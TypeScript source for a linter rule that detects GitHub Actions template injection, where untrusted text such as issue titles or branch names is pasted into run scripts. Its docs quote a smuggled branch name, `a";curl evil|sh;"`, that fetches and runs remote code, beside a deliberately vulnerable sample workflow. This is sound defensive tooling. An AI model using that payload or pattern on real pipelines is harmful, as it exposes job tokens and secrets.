// Text that strangers write, pasted into a script before it runs. Text of members and callers is for `input-in-script`.
import { describeReach, jobReach } from '../../server/engine/facts/github/job-reach.ts';
import { untrustedInputs, type UntrustedInput } from '../../server/engine/facts/github/untrusted-input.ts';
import { evaluatedVariables, mayEvaluate } from '../../server/engine/facts/evaluated-variables.ts';
import { commandsOf } from '../../server/engine/facts/script-lines.ts';
import { untrustedTriggers } from '../../server/engine/facts/github/untrusted-triggers.ts';
import type { Expression, Workflow, WorkflowJob, WorkflowStep } from '../../server/engine/facts/workflow.ts';
import { defineRule, type RuleContext } from '../../server/engine/rule.ts';
import { throughEnvironment } from './env-indirection.ts';
import { passedText } from './passed-inputs.ts';
import { expressionsInCode } from './script-inputs.ts';
import { strangersVariables } from './strangers-variables.ts';
import { whoWrites } from './who-writes.ts';

export const templateInjection = defineRule({
  id: 'github/template-injection',
  meta: {
    title: 'Text of strangers pasted into a script',
    category: 'workflow',
    severity: 'high',
    confidence: 'high',
    frameworks: ['NHI8:2025', 'PR.PS-06'],
    peers: ['zizmor template-injection', 'actionlint expression', 'poutine injection', 'octoscan expression-injection', 'CKV_GHA_2'],
    fix: 'suggestion',
    messages: {
      reach: '`{input}` is written by {who} and becomes part of this script before it runs; whoever writes a command there gets {reach}',
      plain:
        '`{input}` is written by {who} and becomes part of this script before it runs; whoever writes a command there runs it in this job',
      evaluated:
        '`{variable}` holds `{input}`, which is written by {who}, and `{command}` runs its text as code; whoever writes a command there gets {reach}',
      passed:
        '`{input}` becomes part of this script before it runs, and {caller} passes it `{text}`, which is written by {who}; whoever writes a command there gets {reach}',
    },
    docs: {
      what: 'A title, body, branch name or message that anyone can write, inside `${{ }}` in a script.',
      why: 'GitHub replaces the expression by its text before the shell sees the script. A pull request from a branch called `a";curl evil|sh;"` then runs a command with everything that the job holds: its token, its secrets, its cloud role.',
      remedy: 'Hand the text over as an environment variable and quote the variable: the shell never takes its content for code.',
      bad: [
        {
          file: '.github/workflows/greet.yml',
          text: `on: issues
permissions:
  issues: write
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue \${{ github.event.issue.title }}"
`.replace('${{ github.event.issue.title }}', '«${{ github.event.issue.title }}»'),
        },
      ],
      good: [
        {
          file: '.github/workflows/greet.yml',
          text: `on: pull_request
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New title $TITLE"
        env:
          TITLE: \${{ github.event.pull_request.title }}
`,
        },
      ],
      references: [
        'https://docs.github.com/en/actions/concepts/security/script-injections',
        'https://securitylab.github.com/resources/github-actions-untrusted-input/',
      ],
    },
  },
  on: {
    step(step, job, workflow, context) {
      reportEvaluated(step, job, workflow, context);
      for (const expression of expressionsInCode(step)) {
        const inputs = untrustedInputs(expression.tree, workflow, { step, job });
        const input = inputs.find((one) => one.author === 'stranger');
        if (!input) {
          for (const one of inputs) if (one.author === 'caller') reportPassed(one, expression, step, job, workflow, context);
          continue;
        }
        const reach = job ? describeReach(jobReach(job, workflow)) : '';
        context.report({
          at: expression.at,
          message: reach === '' ? 'plain' : 'reach',
          data: { input: input.path, who: whoWrites(workflow, input.path), reach },
          anchor: `${step.anchor}|${expression.where}|${input.path}`,
          severity: severityOf(job, workflow, reach),
          suggestions: throughEnvironment(expression, step, job, workflow, nameFor(input.path)),
        });
      }
    },
  },
});

/** An input of an action or a called workflow of this repository that some caller in it fills with a stranger's text. */
function reportPassed(
  input: UntrustedInput,
  expression: Expression,
  step: WorkflowStep,
  job: WorkflowJob | undefined,
  workflow: Workflow,
  context: RuleContext<'passed'>,
): void {
  const passed = input.path.startsWith('inputs.') ? passedText(input.path.slice('inputs.'.length), workflow, context.project) : undefined;
  if (!passed) return;
  const reach = job ? describeReach(jobReach(job, workflow)) : '';
  context.report({
    at: expression.at,
    message: 'passed',
    data: {
      input: input.path,
      caller: `\`${passed.caller.at.uri}\``,
      text: passed.path,
      who: whoWrites(passed.caller, passed.path),
      reach: reach === '' ? 'what the job holds' : reach,
    },
    anchor: `${step.anchor}|${expression.where}|${input.path}`,
    severity: severityOf(job, passed.caller, reach),
    related: [{ at: passed.expression.at, message: 'the text is passed here' }],
    suggestions: throughEnvironment(expression, step, job, workflow, nameFor(input.path)),
  });
}

/** Critical where strangers start the run themselves and an identity is in reach; milder where a fork gets neither token nor secrets. */
function severityOf(job: WorkflowJob | undefined, workflow: Workflow, reach: string): 'critical' | 'high' | 'medium' {
  if (untrustedTriggers(workflow).length > 0) return reach === '' ? 'high' : 'critical';
  const pullRequest = workflow.triggers.some((trigger) => trigger.name === 'pull_request');
  return job && pullRequest && !jobReach(job, workflow).selfHosted ? 'medium' : 'high';
}

/** A variable with a stranger's text that the script hands to another shell as code: `eval "$BODY"`, `sh -c "… $BODY"`. */
function reportEvaluated(step: WorkflowStep, job: WorkflowJob | undefined, workflow: Workflow, context: RuleContext<'evaluated'>): void {
  const lines = commandsOf(step.lines).filter((line) => mayEvaluate(line.text));
  if (lines.length === 0) return;
  for (const { name, input } of strangersVariables(step, job, workflow)) {
    for (const used of lines.flatMap(evaluatedVariables(name, true))) {
      const reach = job ? describeReach(jobReach(job, workflow)) : '';
      context.report({
        at: used.at,
        message: 'evaluated',
        data: {
          variable: used.variable,
          input: input.path,
          who: whoWrites(workflow, input.path),
          command: used.command,
          reach: reach === '' ? 'what the job holds' : reach,
        },
        anchor: `${step.anchor}|eval|${name}`,
        severity: severityOf(job, workflow, reach),
      });
    }
  }
}

/** A name for the variable, from the last words of the path: `ISSUE_TITLE`, `HEAD_REF`. */
export function nameFor(path: string): string {
  const parts = path
    .split('.')
    .filter((part) => part !== '*' && part !== '[]' && part !== 'github' && part !== 'event' && part !== 'inputs' && part !== 'secrets');
  return parts.slice(-2).join('_');
}
